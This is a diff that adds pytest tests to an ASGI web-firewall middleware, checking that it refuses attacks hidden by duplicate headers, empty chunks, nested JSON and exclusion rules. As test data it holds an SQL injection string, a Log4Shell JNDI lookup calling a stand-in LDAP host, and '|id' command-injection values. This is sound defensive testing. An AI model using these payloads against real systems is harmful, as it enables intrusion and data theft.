@@ -6,6 +6,7 @@ import gzip
 import json
 from contextlib import suppress
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 from anyio import create_task_group
@@ -21,6 +22,7 @@ from asgi_guard import (
     Validation,
     ValidationMiddleware,
 )
+from asgi_guard.errors import MissingExtraError
 from asgi_guard.events import RequestRefused, RequestWouldBeRefused
 from asgi_guard.testing import Expectations, call, capture_events, check_middleware, lifespan, websocket
 
@@ -525,7 +527,8 @@ async def test_others_run_while_a_long_head_is_looked_at() -> None:
             {"AG101", "AG103", "AG105"},
         ),
         ({"attacks": {"sqli": "of"}}, {"AG710"}),
-        ({"attacks": {"sql": "off"}}, {"AG110"}),
+        ({"attacks": {"sql": "off"}}, {"AG710"}),
+        ({"exclude": [Exclusion(rules=["sql"])]}, {"AG709"}),
         ({"exclude": [{"paths": ["/"]}]}, {"AG711"}),
         ({"rules": OWN}, {"AG712"}),
     ],
@@ -552,3 +555,107 @@ async def test_it_keeps_the_rules() -> None:
     report = await check_middleware(ValidationMiddleware, Expectations(answers_errors=False, refusing=attacked))
 
     report.raise_for_failures()
+
+
+async def test_rules_of_ones_own_are_excluded_and_softened_like_others() -> None:
+    """By their id, and by their class."""
+    for settings in (
+        {"exclude": [Exclusion(rules=[OWN.id])]},
+        {"exclude": [Exclusion(rules=[OWN.attack])]},
+        {"attacks": {OWN.attack: "detect"}},
+        {"attacks": {OWN.attack: "off"}},
+    ):
+        asked = {"path": "/?q=" + quote(OWN.positives[0])}
+        assert (await call(ValidationMiddleware(Reader(), rules=[OWN]), **asked)).status == 400
+        assert (await call(ValidationMiddleware(Reader(), rules=[OWN], **settings), **asked)).status == 200
+
+
+def test_an_engine_that_is_not_installed_does_not_start(monkeypatch) -> None:
+    """The first request would have been too late."""
+    monkeypatch.setattr("asgi_guard.inspection.settings.has_re2", lambda: False)
+    with pytest.raises(MissingExtraError, match="re2"):
+        Validation(engine="re2")
+
+
+JSON_ATTACK = b'{"q": "1 union select password from users"}'
+
+
+@pytest.mark.parametrize(
+    ("headers", "body"),
+    [
+        ([("content-encoding", "identity"), ("content-encoding", "gzip")], gzip.compress(JSON_ATTACK)),
+        ([("content-type", "text/css"), ("content-type", "application/json")], JSON_ATTACK),
+    ],
+    ids=["two encodings", "two types"],
+)
+async def test_what_two_lines_of_a_header_say_is_not_passed_over(headers, body) -> None:
+    """The application may read the other line."""
+    headers = headers if len({name for name, _ in headers}) > 1 else [*headers, ("content-length", str(len(body)))]
+    response = await call(ValidationMiddleware(Reader()), "POST", headers=headers, chunks=[body])
+    assert response.status in {400, 415}
+
+
+async def test_empty_messages_do_not_carry_a_body_past() -> None:
+    """Each counts, so that they are not kept without a bound; what is behind them is not let pass for it."""
+    app = ValidationMiddleware(Reader(), max_body_bytes=1_024)
+    chunks = [*[b""] * 2_000, JSON_ATTACK]
+    response = await call(app, "POST", headers={"content-type": "application/json"}, chunks=chunks)
+    assert response.status == 413
+
+
+async def test_what_was_not_looked_at_is_not_remembered_as_harmless() -> None:
+    """Whoever crosses a limit that only flags would let it pass for everybody."""
+    app = ValidationMiddleware(Reader(), on_limit="flag", max_fields=10)
+    attack = {"x-api": "${jndi:ldap://x.example/a}"}
+    cookies = "; ".join(f"c{number}=1" for number in range(20))
+    await call(app, headers={"cookie": cookies, **attack})
+    assert (await call(app, headers=attack)).status == 400
+
+
+@pytest.mark.parametrize(("name", "status"), [("user[bio]", 200), ("userb", 400), ("user", 400)])
+async def test_brackets_in_a_name_that_is_excluded_are_brackets(name, status) -> None:
+    """Many frameworks write their parameters so; only a star stands for anything."""
+    app = ValidationMiddleware(Reader(), exclude=[Exclusion(names=["user[bio]"])])
+    response = await call(app, path=f"/?{quote(name)}={quote('1 union select password from users')}")
+    assert response.status == status
+
+
+async def test_what_stands_inside_of_a_parameter_is_excluded_by_the_name_of_the_parameter() -> None:
+    """A client names what is inside, and would exclude whatever it likes."""
+    inner = quote('{"comment": "1 union select password from users"}')
+    by_inner, by_outer = (
+        ValidationMiddleware(Reader(), exclude=[Exclusion(names=[name])]) for name in ("comment", "q")
+    )
+    assert (await call(by_inner, path=f"/?q={inner}")).status == 400
+    assert (await call(by_outer, path=f"/?q={inner}")).status == 200
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        '{"a": "|id"}',
+        ' \n{"a": "|id"}',
+        json.dumps(json.dumps({"a": "|id"})),
+        json.dumps({"a": json.dumps({"b": json.dumps({"c": "|id"})})}),
+        json.dumps({"z": "a" * 20_000, "a": "|id"}),
+    ],
+    ids=["as it is", "behind blanks", "a string of it", "three of them", "a long one"],
+)
+async def test_json_inside_of_a_value_is_taken_apart(value) -> None:
+    """As an application does; what is found only alone is found there."""
+    body = f"q={quote(value)}".encode()
+    headers = {"content-type": "application/x-www-form-urlencoded"}
+    assert (await call(ValidationMiddleware(Reader()), "POST", headers=headers, chunks=[body])).status == 400
+
+
+async def test_more_json_inside_of_a_value_than_is_looked_at_is_told() -> None:
+    """It is no place to hide behind."""
+    body = f"q={quote(json.dumps([['x'] * 5_000]))}".encode()
+    headers = {"content-type": "application/x-www-form-urlencoded"}
+    assert (await call(ValidationMiddleware(Reader()), "POST", headers=headers, chunks=[body])).status == 413
+
+
+async def test_a_body_that_says_it_is_not_encoded_is_like_one_that_says_nothing() -> None:
+    """Uploads of any size pass."""
+    headers = {"content-type": "application/octet-stream", "content-encoding": "identity"}
+    assert (await call(ValidationMiddleware(Reader()), "POST", headers=headers, chunks=[b"x" * 300_000])).status == 200
